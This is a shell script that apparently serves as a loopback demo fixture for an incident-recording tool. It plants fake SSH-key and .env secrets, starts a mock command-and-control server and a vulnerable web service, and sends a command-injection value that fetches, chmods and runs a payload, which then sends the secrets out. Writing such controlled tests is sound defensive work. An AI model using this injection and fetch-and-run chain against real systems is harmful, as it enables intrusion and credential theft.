#!/bin/sh
# A harmless incident on loopback, to be recorded:
#
#   hindcast record -w STORE -- testdata/demo/run.sh RUNDIR
#
# A web service with a command injection is asked a harmless question, then a
# harmful one: its shell fetches a program, makes it executable and runs it; that
# reads two made-up secrets, sends them away, leaves a cron-like file and removes
# itself. Nothing leaves loopback and RUNDIR. The programs are expected in
# RUNDIR/bin (make demo puts them there); with Go at hand they are built otherwise.
# HINDCAST_TRUTH=FILE makes every program log what it did, see the package truth.
set -eu

[ $# -eq 1 ] || { echo "usage: $0 RUNDIR" >&2; exit 2; }
mkdir -p "$1"
run=$(cd "$1" && pwd)
bin=$run/bin
[ -x "$bin/web" ] || "$(dirname "$0")/build.sh" "$bin"

umask 077
mkdir -p "$run/tmp" "$run/var/log" "$run/etc/cron.d" "$run/home/app/.ssh"
rm -f "$run/tmp/.x" "$run/etc/cron.d/updater"
cat >"$run/home/app/.ssh/id_rsa" <<KEY
-----BEGIN DEMO KEY-----
this is not a key, it only lies where one would
-----END DEMO KEY-----
KEY
echo 'DB_PASSWORD=not-a-password' >"$run/home/app/.env"

web=127.0.0.1:18080
serve=127.0.0.2:18081
drop=127.0.0.2:18082

"$bin/c2" $serve "$bin/payload" $drop &
c2=$!
"$bin/web" $web "$run/var/log/access.log" &
web_pid=$!
trap 'kill $c2 $web_pid 2>/dev/null || :' EXIT

"$bin/attack" 127.0.0.4 $web ping localhost
"$bin/attack" 127.0.0.3 $web ping \
    "localhost; cd $run/tmp && $bin/fetch $serve/updater .x && chmod 700 .x && ./.x $run $drop" injected
"$bin/attack" 127.0.0.4 $web stop

wait $c2
wait $web_pid
trap - EXIT
